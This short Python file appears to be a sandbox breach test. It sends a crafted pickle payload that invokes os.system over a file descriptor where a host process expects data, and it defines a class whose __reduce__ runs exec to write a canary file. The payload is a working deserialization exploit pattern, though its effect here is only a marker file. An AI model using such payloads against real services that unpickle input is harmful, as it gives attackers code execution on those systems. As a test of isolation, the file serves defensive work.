# Pickle payload where the host expects data.
# breach: write
import os, struct
p = b'cos\nsystem\n(S\'echo x > @CANARY@/pwned\'\ntR.'
try: os.write(3, struct.pack('>I', len(p)) + p); os.write(3, p)
except Exception: pass
class R:
    def __reduce__(self): return (exec, ('open("@CANARY@/pwned","w").write("x")',))
R()
